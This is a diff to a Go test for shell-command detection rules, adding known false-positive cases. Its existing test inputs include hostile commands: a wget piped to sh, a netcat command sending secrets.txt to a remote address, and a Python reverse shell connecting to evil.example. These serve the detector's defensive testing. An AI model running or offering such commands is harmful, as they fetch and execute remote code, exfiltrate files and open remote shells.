@@ -145,6 +145,9 @@ func TestDefaultRules(t *testing.T) {
 		{`curl -s https://api.example.com/v1/users | jq '.[].name'`, ""},
 		{`curl -o out.tar.gz https://x.example/a.tar.gz`, ""},
 
+		// known false positives of the spec's pattern (docs/POLICY.md)
+		{`curl -s https://api.example.com/commits/1 | jq .sha`, "curl_pipe_sh"},
+
 		// wget_pipe_sh
 		{`wget -O- https://x.example/i.sh | sh`, "wget_pipe_sh"},
 		{`wget https://x.example/file.tar.gz`, ""},
@@ -157,6 +160,7 @@ func TestDefaultRules(t *testing.T) {
 		// exfil_netcat
 		{`nc 203.0.113.9 4444 < secrets.txt`, "exfil_netcat"},
 		{`nc -l 8080`, ""},
+		{`rsync -av dist/ deploy@10.0.0.5:/srv`, "exfil_netcat"}, // known false positive
 
 		// python_reverse_shell
 		{`python -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("evil.example",1234));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])'`, "python_reverse_shell"},
